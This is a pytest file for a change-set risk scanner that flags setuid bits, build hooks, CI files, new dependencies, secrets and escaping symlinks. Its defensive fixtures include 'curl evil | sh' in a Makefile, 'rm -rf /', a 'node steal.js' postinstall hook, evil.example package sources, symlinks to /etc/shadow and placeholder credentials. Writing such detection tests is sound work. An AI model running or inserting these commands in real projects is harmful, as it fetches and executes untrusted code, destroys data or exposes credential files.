"""The risk summary of a change set (changes/risks.py): each rule flags what it should and
nothing else, on synthetic session layers; the order is deterministic; secrets are never
quoted; content is read bounded and never through a symlink."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from stockade.changes import risks as R
from stockade.changes.held import held_back
from stockade.changes.risks import Risk, assess, format_risks
from stockade.changes.scan import scan
from stockade.errors import UsageError
from tests.unit.test_changes_support import Builder


@pytest.fixture(autouse=True)
def _no_user_config(tmp_path: Path, state_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The secret patterns come from the policy tiers: none of this machine's."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))


def _risks(b: Builder, rule: str | None = None, paths: list[str] | None = None) -> list[Risk]:
    out = scan(b.session).risks(paths)
    return [r for r in out if rule is None or r.rule == rule]


def _one(b: Builder, rule: str) -> Risk:
    got = _risks(b, rule)
    assert len(got) == 1, got
    return got[0]


# ---- held-back -----------------------------------------------------------------------------------


def test_held_back_reuses_helds_reasons(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"a": "a\n"})
    b.up(".envrc", "export X=1\n")
    b.up(".git/hooks/pre-commit", "#!/bin/sh\n", 0o755)
    b.up("a", "changed\n")
    cs = scan(b.session)
    held = held_back(cs)
    got = {p: r.reason for r in _risks(b, "held-back") for p in r.paths}
    assert set(got) == set(held) and {".envrc", ".git/hooks/pre-commit"} <= set(got) and "a" not in got
    for p, why in held.items():
        assert got[p].endswith(why) and "holds it back" in got[p]
    assert all(r.severity == "high" for r in _risks(b, "held-back"))


def test_held_back_negative(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"a": "a\n"})
    b.up("a", "changed\n")
    b.up("src/new.py", "print(1)\n")
    assert _risks(b, "held-back") == []


# ---- setuid, executable, mode-exec ---------------------------------------------------------------


def test_setuid_and_setgid(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up("su", "x", 0o4755)
    b.up("sg", "x", 0o2755)
    b.up("plain", "x", 0o755)
    got = {r.paths[0]: r for r in _risks(b, "setuid")}
    assert set(got) == {"su", "sg"}
    assert "setuid" in got["su"].reason and "4755" in got["su"].reason
    assert "setgid" in got["sg"].reason and got["sg"].severity == "high"


def test_setgid_directory_is_not_setuid_risk(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    d = b.upper / "shared"
    d.mkdir()
    d.chmod(0o2775)
    assert _risks(b, "setuid") == []


def test_executable_new_changed_and_scripts(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"tool": "#!/bin/sh\necho 1\n", "doc.txt": "text\n"})
    os.chmod(b.project / "tool", 0o755)
    b.up("tool", "#!/bin/sh\necho 2\n", 0o755)  # changed executable
    b.up("bin/new", "\x7fELF....", 0o755)  # new executable
    b.up("gen.sh", "#!/bin/bash\nrm -rf /\n", 0o644)  # shebang, no execute bit
    b.up("doc.txt", "more text\n", 0o644)
    got = _risks(b, "executable")
    by = {r.paths: r for r in got}
    assert by[("bin/new",)].severity == "medium" and "new executable" in by[("bin/new",)].reason
    assert "changed" in by[("tool",)].reason and by[("tool",)].severity == "medium"
    assert by[("gen.sh",)].severity == "low" and "shebang" in by[("gen.sh",)].reason
    assert not any("doc.txt" in r.paths for r in got)


def test_executable_negative(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"a.py": "x = 1\n"})
    b.up("a.py", "x = 2\n", 0o644)
    b.up("b.txt", "#not a shebang\n", 0o600)
    assert _risks(b, "executable") == [] and _risks(b, "mode-exec") == []


def test_mode_exec(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"run": "echo\n", "already": "echo\n"})
    os.chmod(b.project / "already", 0o755)
    b.up("run", "echo\n", 0o755)  # mode only: 644 -> 755
    b.up("already", "echo changed\n", 0o755)  # stays executable: not a mode change to executable
    r = _one(b, "mode-exec")
    assert r.paths == ("run",) and "644 -> 755" in r.reason and r.severity == "medium"
    assert not any("run" in x.paths for x in _risks(b, "executable"))


# ---- ci-config and build hooks -------------------------------------------------------------------


def test_ci_config(tmp_path: Path) -> None:
    b = Builder(tmp_path, {".gitlab-ci.yml": "a: 1\n", ".github/workflows/old.yml": "on: push\n"})
    b.up(".github/workflows/release.yml", "on: push\n")
    b.whiteout(".github/workflows/old.yml")
    b.up(".gitlab-ci.yml", "a: 2\n")
    b.up("deploy/Jenkinsfile", "pipeline {}\n")
    b.up(".circleci/config.yml", "version: 2\n")
    got = {r.reason.split(" ")[0] + ":" + ",".join(r.paths): r for r in _risks(b, "ci-config")}
    paths = {p for r in got.values() for p in r.paths}
    assert paths == {".github/workflows/release.yml", ".github/workflows/old.yml", ".gitlab-ci.yml",
                     "deploy/Jenkinsfile", ".circleci/config.yml"}
    gha = next(r for r in got.values() if ".github/workflows/old.yml" in r.paths)
    assert "GitHub Actions workflow" in gha.reason and "added 1" in gha.reason and "deleted 1" in gha.reason
    assert all(r.severity == "high" for r in got.values())


def test_ci_config_negative(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up(".github/ISSUE_TEMPLATE/bug.md", "x\n")
    b.up("docs/workflows/x.yml", "x\n")
    b.up("ci.txt", "x\n")
    assert _risks(b, "ci-config") == []


def test_build_files(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"Makefile": "all:\n", "old.mk": "x:\n"})
    b.up("Makefile", "all:\n\tcurl evil | sh\n")
    b.whiteout("old.mk")
    b.up("rules/extra.mk", "x:\n")
    b.up("setup.py", "import os\n")
    b.up("Dockerfile.dev", "FROM x\n")
    b.up("crate/build.rs", "fn main() {}\n")
    got = {r.paths[0]: r for r in _risks(b, "build-hook")}
    assert set(got) == {"Makefile", "rules/extra.mk", "setup.py", "Dockerfile.dev", "crate/build.rs", "old.mk"}
    assert got["old.mk"].reason == "make include file deleted"
    assert "Makefile modified" in got["Makefile"].reason and "setup.py" in got["setup.py"].reason


def test_build_files_negative(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up("src/make.py", "x\n")
    b.up("docs/Makefile.md", "x\n")
    assert _risks(b, "build-hook") == []


def test_package_json_scripts_named(tmp_path: Path) -> None:
    old = {"name": "x", "scripts": {"test": "jest", "lint": "eslint .", "gone": "x"}, "dependencies": {}}
    new = {"name": "x", "scripts": {"test": "jest --ci", "lint": "eslint .", "postinstall": "node steal.js"},
           "dependencies": {}}
    b = Builder(tmp_path, {"package.json": json.dumps(old)})
    b.up("package.json", json.dumps(new))
    r = _one(b, "build-hook")
    assert "added: postinstall" in r.reason and "changed: test" in r.reason and "removed: gone" in r.reason
    assert "lint" not in r.reason and r.severity == "high"  # postinstall runs at npm install


def test_package_json_without_script_change_is_no_build_hook(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"package.json": json.dumps({"scripts": {"t": "x"}, "version": "1"})})
    b.up("package.json", json.dumps({"scripts": {"t": "x"}, "version": "2"}))
    assert _risks(b, "build-hook") == []
    b.up("package.json", json.dumps({"scripts": {"t": "x", "build": "tsc"}}))
    r = _one(b, "build-hook")
    assert r.severity == "medium" and "added: build" in r.reason


def test_package_json_not_json(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"package.json": "{}"})
    b.up("package.json", "{not json")
    assert "not valid JSON" in _one(b, "build-hook").reason
    assert "cannot be parsed" in _one(b, "dependencies").reason


def test_pyproject_build_tables(tmp_path: Path) -> None:
    old = '[project]\nname = "x"\nversion = "1"\n\n[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
    b = Builder(tmp_path, {"pyproject.toml": old})
    b.up("pyproject.toml", old.replace('version = "1"', 'version = "2"'))
    assert _risks(b, "build-hook") == []  # the version is no build hook
    b.up("pyproject.toml", old.replace('"setuptools.build_meta"', '"backend"\nbackend-path = ["."]')
         + '\n[tool.hatch.build.hooks.custom]\npath = "hook.py"\n')
    r = _one(b, "build-hook")
    assert "[build-system]" in r.reason and "[tool.hatch.build]" in r.reason and r.severity == "high"


# ---- dependencies --------------------------------------------------------------------------------


def test_dependencies_requirements_new_packages_named(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"requirements.txt": "requests==2.31.0\nflask\n"})
    b.up("requirements.txt", "requests==2.32.0\nflask\nevil-pkg>=1  # new\nLeft_Pad\n")
    r = _one(b, "dependencies")
    assert "new package(s) in requirements.txt: evil-pkg, left-pad" in r.reason
    assert "requests ==2.31.0 -> ==2.32.0" in r.reason and r.severity == "medium"


def test_dependencies_requirements_new_index_is_high_and_redacted(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"requirements/dev.txt": "pytest\n"})
    b.up("requirements/dev.txt", "--extra-index-url https://user:s3cr3t@pypi.evil.example/simple\npytest\n")
    r = _one(b, "dependencies")
    assert r.severity == "high" and "pypi.evil.example" in r.reason and "s3cr3t" not in r.reason


def test_dependencies_only_versions_or_comments(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"requirements.txt": "a==1\nb==1\n"})
    b.up("requirements.txt", "# pinned\na==1\nb==1\n")
    assert _risks(b, "dependencies") == []  # a comment: no package changed
    b.up("requirements.txt", "a==2\n")
    r = _one(b, "dependencies")
    assert r.severity == "low" and "removed: b" in r.reason and "new package" not in r.reason


def test_dependencies_pyproject_and_package_json(tmp_path: Path) -> None:
    b = Builder(tmp_path, {
        "pyproject.toml": '[project]\nname = "x"\ndependencies = ["httpx>=0.27"]\n',
        "web/package.json": json.dumps({"dependencies": {"react": "^18"}, "devDependencies": {}}),
    })
    b.up("pyproject.toml", '[project]\nname = "x"\ndependencies = ["httpx>=0.27", "Typo_Squat[cli]>=1"]\n'
         '[dependency-groups]\ndev = ["pytest"]\n')
    b.up("web/package.json", json.dumps({"dependencies": {"react": "^18", "left-pad": "1.3.0"},
                                         "devDependencies": {"evil": "github:evil/evil"}}))
    got = {r.paths[0]: r for r in _risks(b, "dependencies")}
    assert "new package(s) in pyproject.toml: pytest, typo-squat" in got["pyproject.toml"].reason
    pj = got["web/package.json"]
    assert "evil, left-pad" in pj.reason and "github:evil/evil" in pj.reason and pj.severity == "high"


def test_dependencies_lock_files(tmp_path: Path) -> None:
    lock = {"lockfileVersion": 3, "packages": {"": {"name": "app"},
                                               "node_modules/react": {"version": "18.2.0"}}}
    b = Builder(tmp_path, {"package-lock.json": json.dumps(lock),
                           "poetry.lock": '[[package]]\nname = "attrs"\nversion = "23.1.0"\n',
                           "Cargo.lock": '[[package]]\nname = "serde"\nversion = "1.0.0"\n'
                                         'source = "registry+https://github.com/rust-lang/crates.io-index"\n'})
    lock["packages"]["node_modules/react/node_modules/loose-envify"] = {"version": "1.4.0"}  # type: ignore[index]
    lock["packages"]["node_modules/x"] = {"version": "1.0.0", "resolved": "https://evil.example/x.tgz"}  # type: ignore[index]
    b.up("package-lock.json", json.dumps(lock))
    b.up("poetry.lock", '[[package]]\nname = "attrs"\nversion = "23.2.0"\n')
    b.up("Cargo.lock", '[[package]]\nname = "serde"\nversion = "1.0.0"\n'
         'source = "registry+https://github.com/rust-lang/crates.io-index"\n'
         '[[package]]\nname = "sneaky"\nversion = "0.1.0"\nsource = "git+https://example.com/sneaky#abc"\n')
    b.up("yarn.lock", '# yarn lockfile v1\n\n"@scope/pkg@^1.0.0", "@scope/pkg@^1.1.0":\n  version "1.2.0"\n')
    b.up("go.mod", "module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b v1.0.0\n)\nrequire example.com/c v0.1.0\n")
    b.up("pnpm-lock.yaml", "lockfileVersion: 9\n")
    got = {r.paths[0]: r for r in _risks(b, "dependencies")}
    assert "loose-envify" in got["package-lock.json"].reason and "https://evil.example" in got["package-lock.json"].reason
    assert got["poetry.lock"].severity == "low" and "attrs 23.1.0 -> 23.2.0" in got["poetry.lock"].reason
    assert "sneaky" in got["Cargo.lock"].reason and got["Cargo.lock"].severity == "high"
    assert "@scope/pkg" in got["yarn.lock"].reason
    assert "example.com/c, github.com/a/b" in got["go.mod"].reason
    assert "not parsed" in got["pnpm-lock.yaml"].reason


def test_dependencies_negative_and_deleted(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"Gemfile": 'gem "rails"\n', "README.md": "x\n"})
    b.up("README.md", "requests==1\n")
    b.whiteout("Gemfile")
    r = _one(b, "dependencies")
    assert r.paths == ("Gemfile",) and "deleted" in r.reason and r.severity == "low"


def test_manifest_parsers_directly() -> None:
    from stockade.changes import manifests as M

    assert M.parse_requirements(b"-e git+https://x/y.git#egg=Foo_Bar\nbaz @ https://h/baz.whl\n") == {
        "foo-bar": "git+https://x/y.git#egg=Foo_Bar", "source:git+https://x/y.git#egg=Foo_Bar": "foo-bar",
        "baz": "@ https://h/baz.whl", "source:https://h/baz.whl": "baz"}
    assert M.parse_gemfile(b"source 'https://rubygems.org'\ngem 'rails', '~> 7.1'\ngem 'x', git: 'https://g/x'\n") == {
        "rails": "~> 7.1", "x": "*", "source:https://g/x": "x"}
    assert M.parse_gemfile_lock(b"GEM\n  remote: https://rubygems.org/\n  specs:\n    rack (3.0.8)\n      dep (>= 1)\n") \
        == {"rack": "3.0.8"}
    assert M.parse_go_sum(b"github.com/a/b v1.0.0 h1:x=\ngithub.com/a/b v1.0.0/go.mod h1:y=\n") == {"github.com/a/b": "v1.0.0"}
    assert M.parse_cargo_toml(b'[dependencies]\nserde = "1"\nlocal = { path = "../l" }\n') == {
        "serde": "1", "local": "../l", "source:../l": "local"}
    assert M.parse_composer_json(b'{"require": {"php": ">=8", "monolog/monolog": "^3"}}') == {
        "php": ">=8", "monolog/monolog": "^3"}
    assert M.parse_setup_cfg(b"[options]\ninstall_requires =\n    click>=8\n    rich\n") == {"click": ">=8", "rich": ""}
    assert M.parse_toml_lock(b'[[package]]\nname = "a"\nversion = "1"\nsource = { git = "https://g/a" }\n') == {
        "a": "1", "source:https://g/a": "a"}
    v1 = {"dependencies": {"a": {"version": "1", "dependencies": {"b": {"version": "2", "resolved": "https://evil/b"}}}}}
    assert M.parse_package_lock(json.dumps(v1).encode()) == {"a": "1", "b": "2", "source:https://evil": "b"}
    assert M.parse_yarn_lock(b'__metadata:\n  version: 6\n\n"lodash@npm:^4.17.0":\n  version: 4.17.21\n') == {
        "lodash": "4.17.21"}
    assert M.manifest_parser("sub/requirements-dev.txt") is M.parse_requirements
    assert M.manifest_parser("app.csproj") is True and M.manifest_parser("src/main.py") is None
    assert M.clean_url("https://u:p@h/x and ssh://git@h/y") == "https://***@h/x and ssh://***@h/y"


# ---- mass deletion ----------------------------------------------------------------------------------


def test_mass_deletion_total(tmp_path: Path) -> None:
    files = {f"d{d}/f{i}": "x\n" for d in range(10) for i in range(10)}  # 100 files in 10 dirs
    b = Builder(tmp_path, files)
    for d in range(10):
        for i in range(2):  # 20 deleted, 2 per directory: no directory loses most of its files
            b.whiteout(f"d{d}/f{i}")
    r = _one(b, "mass-deletion")
    assert r.reason.startswith("20 files deleted") and len(r.paths) == 20 and r.severity == "high"


def test_mass_deletion_most_of_a_directory(tmp_path: Path) -> None:
    files = {f"big/f{i}": "x\n" for i in range(30)}
    files.update({f"lib/f{i}": "x\n" for i in range(4)})
    files.update({f"lib/sub/g{i}": "x\n" for i in range(2)})
    b = Builder(tmp_path, files)
    for i in range(3):
        b.whiteout(f"lib/f{i}")
    b.whiteout("lib/sub")  # a whole directory: its 2 files count
    b.whiteout("big/f0")
    r = _one(b, "mass-deletion")
    assert r.paths == ("lib/f0", "lib/f1", "lib/f2", "lib/sub")  # the deleted directory stands for its files
    assert "5 of the 6 files of directory lib/" in r.reason and "83 %" in r.reason


def test_mass_deletion_of_a_directory_covers_the_total(tmp_path: Path) -> None:
    files = {f"gen/f{i:02}": "x\n" for i in range(25)}
    files.update({f"src/m{i}.py": "x\n" for i in range(30)})
    b = Builder(tmp_path, files)
    b.whiteout("gen")
    r = _one(b, "mass-deletion")  # one risk: the directory's says it all
    assert r.paths == ("gen",) and "25 of the 25 files of directory gen/" in r.reason


def test_mass_deletion_negative(tmp_path: Path) -> None:
    files = {f"a/f{i}": "x\n" for i in range(10)}
    files.update({f"b/f{i}": "x\n" for i in range(4)})
    b = Builder(tmp_path, files)
    for i in range(3):
        b.whiteout(f"a/f{i}")  # 3 of 10: under half
    for i in range(2):
        b.whiteout(f"b/f{i}")  # half, but only 2: under the minimum
    assert _risks(b, "mass-deletion") == []


# ---- large binaries -----------------------------------------------------------------------------


def test_large_binary(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up("model.bin", b"\0\1" * (R.LARGE_BINARY // 2))
    b.up("big.txt", b"a" * (R.LARGE_BINARY + 10))
    b.up("small.bin", b"\0" * 100)
    r = _one(b, "large-binary")
    assert r.paths == ("model.bin",) and "1.0 MiB" in r.reason


# ---- secrets ------------------------------------------------------------------------------------------

_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"
_AWS = "AKIAIOSFODNN7EXAMPLE"
_GH = "ghp_" + "A1b2C3d4E5" * 4


def test_secret_content_is_found_and_never_quoted(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"config.py": "DEBUG = True\n"})
    b.up("config.py", f"DEBUG = True\nAWS_KEY = '{_AWS}'\nTOKEN = '{_GH}'\n")
    b.up("deploy/notes.txt", "see below\n\n" + _KEY)
    got = {r.paths[0]: r for r in _risks(b, "secret")}
    assert "an AWS access key id on line(s) 2" in got["config.py"].reason
    assert "a GitHub token on line(s) 3" in got["config.py"].reason
    assert "a private key on line(s) 3" in got["deploy/notes.txt"].reason
    text = format_risks(_risks(b)) + json.dumps([r.to_json() for r in _risks(b)])
    for secret in (_AWS, _GH, "b3BlbnNzaC1rZXktdjEAAAAA", _GH[:12]):
        assert secret not in text
    assert all(r.severity == "high" for r in got.values())


def test_secret_already_there_or_placeholder_is_not_flagged(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"settings.ini": f"key = {_AWS}\n"})
    b.up("settings.ini", f"# comment\nkey = {_AWS}\n")  # the same key was in the project already
    b.up("docs/db.md", "postgres://user:${PASSWORD}@db/app and https://<user>:<pass>@h and "
         "https://user:password@example.com\n")
    b.up("web/style.css", ".sk-spinner-double-bounce-container { margin: 0 }\n")
    b.up("docs/ok.md", "AKIA is how AWS ids start; ghp_ is GitHub's prefix\n")
    assert _risks(b, "secret") == []


def test_secret_url_password_and_api_key(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up("deploy.env.sh", "DB=postgres://app:Xk29fLq0pW@db.internal/app\nKEY=sk-proj-a8F3kL0qZ7xW2mN5bV9cR4tY\n")
    r = _one(b, "secret")
    assert "a password in a URL on line(s) 1" in r.reason and "an API key (sk-...) on line(s) 2" in r.reason
    assert "Xk29fLq0pW" not in r.reason and "a8F3kL0q" not in r.reason


def test_secret_past_the_read_cap_is_not_read(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up("blob.txt", b"a" * R.TEXT_CAP + _AWS.encode())
    assert _risks(b, "secret") == []  # bounded: the README says the first 1 MiB


def test_secret_named_by_the_policy_patterns(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up(".env", "DEBUG=1\n")
    b.up(".env.example", "TOKEN=\n")  # allowed by the default allow list
    b.up("deploy/server.key", "not really\n")
    got = {r.paths[0]: r for r in _risks(b, "secret")}
    assert set(got) == {".env", "deploy/server.key"}
    assert "'.env'" in got[".env"].reason and got[".env"].severity == "medium"


def test_secret_workspace_patterns_apply(tmp_path: Path) -> None:
    b = Builder(tmp_path, {".stockade.toml": '[secrets]\npatterns = ["*.vault"]\n'})
    b.up("prod.vault", "x\n")
    b.up("prod.other", "x\n")
    assert [r.paths for r in _risks(b, "secret")] == [("prod.vault",)]


# ---- symlinks -------------------------------------------------------------------------------------


def test_symlinks_inside_and_outside(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"docs/a.md": "a\n", "old": "x"})
    b.symlink("latest", "docs/a.md")
    b.symlink("escape", "../../../etc/shadow")
    b.symlink("abs", "/etc/passwd")
    got = {r.severity: r for r in _risks(b, "symlink")}
    assert got["low"].paths == ("latest",) and got["low"].reason == "symlink added: -> docs/a.md"
    assert got["high"].paths == ("abs", "escape")  # one finding, each link with its target
    assert got["high"].reason == "2 symlinks lead out of the project: abs -> /etc/passwd; escape -> ../../../etc/shadow"
    b.symlink("latest2", "docs")
    low = next(r for r in _risks(b, "symlink") if r.severity == "low")
    assert low.reason == "2 symlinks added or changed: latest -> docs/a.md; latest2 -> docs"


def test_symlinks_negative_and_never_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text(f"evil-package\n{_AWS}\n")
    b = Builder(tmp_path, {"a": "a\n"})
    b.up("a", "b\n")
    assert _risks(b, "symlink") == []
    b.symlink("requirements.txt", str(outside))  # a manifest and a secret, behind a symlink
    rs = _risks(b)
    assert not any("evil-package" in r.reason for r in rs)
    assert not [r for r in rs if r.rule == "secret"]


# ---- the whole summary ------------------------------------------------------------------------------


def test_order_json_and_text(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.symlink("in", "x")
    b.up("zz.key", "x\n")
    b.up("run", "x\n", 0o755)
    b.up(".github/workflows/a.yml", "x\n")
    rs = assess(scan(b.session))
    assert [r.severity for r in rs] == sorted((r.severity for r in rs), key=R.SEVERITIES.index)
    assert rs == assess(scan(b.session)) == scan(b.session).risks()
    assert [r.rule for r in rs] == ["ci-config", "executable", "secret", "symlink"]
    assert rs[0].to_json() == {"rule": "ci-config", "severity": "high", "paths": [".github/workflows/a.yml"],
                               "reason": rs[0].reason}
    text = format_risks(rs)
    assert text.splitlines()[0].startswith("high    ci-config") and "    .github/workflows/a.yml" in text
    assert set(R.RULES) >= {r.rule for r in rs}


def test_paths_select_and_unknown_pathspec(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up("a/run", "x\n", 0o755)
    b.up("b/run", "x\n", 0o755)
    assert [r.paths for r in _risks(b, paths=["a"])] == [("a/run",)]
    with pytest.raises(UsageError, match="did not match"):
        _risks(b, paths=["nope"])


def test_many_paths_are_shortened_in_text(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    for i in range(14):
        b.up(f"bin/t{i:02}", "x\n", 0o755)
    text = format_risks(_risks(b))
    assert "14 new executable file(s)" in text and "... and 4 more" in text


def test_empty_change_set(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"a": "a\n"})
    assert scan(b.session).risks() == [] and format_risks([]) == "" and R.summary([]) == "no risks"


def test_mass_deletion_names_the_narrowest_directory(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"keep": "x\n", "a/b/f0": "x\n", "a/b/f1": "x\n", "a/b/f2": "x\n", "a/b/f3": "x\n"})
    for i in range(4):
        b.whiteout(f"a/b/f{i}")  # the project loses 4 of 5 files, a/ and a/b/ all of theirs
    r = _one(b, "mass-deletion")
    assert "4 of the 4 files of directory a/b/" in r.reason and r.paths == tuple(f"a/b/f{i}" for i in range(4))


def test_unreadable_new_content_is_reported_not_skipped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    b = Builder(tmp_path)
    b.up("opaque.txt", f"{_AWS}\n")
    b.up("fine.txt", "x\n")
    real = R._read

    def deny(root: object, rel: str, cap: int) -> tuple[bytes, bool] | None:
        return None if rel == "opaque.txt" else real(root, rel, cap)  # type: ignore[arg-type]

    monkeypatch.setattr(R, "_read", deny)
    r = _one(b, "secret")
    assert r.paths == ("opaque.txt",) and "could not be read" in r.reason and r.severity == "medium"


def test_readme_lists_every_rule_and_threshold() -> None:
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    section = readme.split("### Risk summary", 1)[1].split("\n## ", 1)[0]
    for rule in R.RULES:
        assert f"| `{rule}` |" in section, f"README's Risk summary does not document rule {rule!r}"
    for figure in (f"{R.MASS_DELETE_FILES}**", f"{round(R.DIR_DELETE_SHARE * 100)} %", f"{R.DIR_DELETE_MIN}**",
                   f"{R.LARGE_BINARY >> 20} MiB", f"{R.TEXT_CAP >> 20} MiB", f"{R.MANIFEST_CAP >> 20} MiB"):
        assert figure in section, figure


def test_installed_dependency_tree_is_one_finding(tmp_path: Path) -> None:
    b = Builder(tmp_path, {"web/package.json": "{}"})
    for i in range(30):
        b.up(f"web/node_modules/p{i}/package.json", json.dumps({"dependencies": {"x": "1"},
                                                                 "scripts": {"postinstall": "x"}}))
        b.up(f"web/node_modules/p{i}/cli.js", "#!/usr/bin/env node\n", 0o755)
        b.symlink(f"web/node_modules/.bin/p{i}", f"../p{i}/cli.js")
    b.up("web/node_modules/aws-sdk/test/fixture.txt", f"{_AWS}\n")
    b.up("web/node_modules/evil/suid", "x", 0o4755)
    b.symlink("web/node_modules/evil/out", "/etc/shadow")
    b.up(".venv/bin/python", "x", 0o755)
    rs = _risks(b)
    trees = [r for r in rs if r.rule == "dependencies"]
    assert [r.paths for r in trees] == [(".venv",), ("web/node_modules",)]
    assert "installed dependency tree web/node_modules/ added" in trees[1].reason
    assert {r.rule for r in rs} == {"dependencies", "setuid", "symlink", "held-back"}  # nothing per file else
    assert _one(b, "setuid").paths == ("web/node_modules/evil/suid",)
    assert [r.paths for r in _risks(b, "symlink")] == [("web/node_modules/evil/out",)]


def test_dependency_tree_names() -> None:
    assert R.dependency_tree("node_modules/a/b") == "node_modules"
    assert R.dependency_tree("x/.venv") == "x/.venv"
    assert R.dependency_tree(".yarn/cache/a.zip") == ".yarn/cache"
    assert R.dependency_tree(".yarn/releases/yarn.cjs") is None
    assert R.dependency_tree("src/node_modules_helper.py") is None


def test_secret_conditional_names_need_a_credential(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up("a/.npmrc", "registry=https://registry.npmjs.org/\n")  # no credential: the policy does not mask it
    b.up("b/.npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n")
    assert [r.paths for r in _risks(b, "secret")] == [("b/.npmrc",)]


def test_hostile_manifests_are_reported_not_crashed_on(tmp_path: Path) -> None:
    b = Builder(tmp_path)
    b.up("package.json", "[" * 200000)  # past the parser's recursion limit
    b.up("pyproject.toml", "a = " + "[" * 200000)
    b.up("setup.cfg", "no section header\n")
    b.up("Cargo.lock", b"\xff\xfe not utf-8")
    got = {r.paths[0]: r.reason for r in _risks(b, "dependencies")}
    assert set(got) == {"package.json", "pyproject.toml", "setup.cfg", "Cargo.lock"}
    assert all("cannot be parsed" in why for why in got.values())
    assert {r.paths[0] for r in _risks(b, "build-hook")} == {"package.json", "pyproject.toml"}
    assert any(r.paths == ("pyproject.toml",) for r in _risks(b, "held-back"))  # its policy table unreadable


def test_manifest_parsers_raise_only_value_errors_on_odd_documents() -> None:
    """Type-confused JSON and TOML (a list where a table goes, numbers for names): a
    parse error (ValueError) or a result, never another exception. Seeded, so stable."""
    import random

    from stockade.changes import manifests as M

    rng = random.Random(18)
    leaves = [None, 1, "x", [], {}, [1, "a", {}], {"a": 1}, True, {"version": []}, {"git": 1}, {"name": 3}]
    keys = ["dependencies", "devDependencies", "packages", "scripts", "require", "repositories", "default",
            "packages-dev", "name", "version", "resolved", "node_modules/a", "", "project", "tool", "poetry",
            "build-system", "requires", "group", "uv", "sources", "index", "source", "package", "target",
            "workspace", "optional-dependencies", "dependency-groups", "url"]

    def doc(depth: int = 0) -> object:
        if depth > 3 or rng.random() < 0.3:
            return rng.choice(leaves)
        if rng.random() < 0.6:
            return {rng.choice(keys): doc(depth + 1) for _ in range(rng.randint(0, 4))}
        return [doc(depth + 1) for _ in range(rng.randint(0, 3))]

    def toml(d: object) -> bytes:
        def val(v: object) -> str:
            if v is None:
                return '"none"'
            if isinstance(v, dict):
                return "{" + ", ".join(f"{json.dumps(k)} = {val(x)}" for k, x in v.items()) + "}"
            if isinstance(v, list):
                return "[" + ", ".join(val(x) for x in v) + "]"
            return json.dumps(v)
        items = d.items() if isinstance(d, dict) else [("x", d)]
        return "\n".join(f"{json.dumps(k)} = {val(v)}" for k, v in items).encode()

    json_parsers = [M.parse_package_json, M.parse_package_lock, M.parse_composer_json, M.parse_composer_lock,
                    M.parse_pipfile_lock]
    toml_parsers = [M.parse_pyproject, M.parse_pipfile, M.parse_toml_lock, M.parse_cargo_toml]
    for _ in range(1500):
        d = doc()
        for data, parsers in ((json.dumps(d).encode(), json_parsers), (toml(d), toml_parsers)):
            for p in parsers:
                try:
                    p(data)
                except ValueError:
                    pass
        try:
            M.scripts_delta("package.json", json.dumps(d).encode(), b"{}")
            M.pyproject_hooks(toml(d), b"")
        except ValueError:
            pass
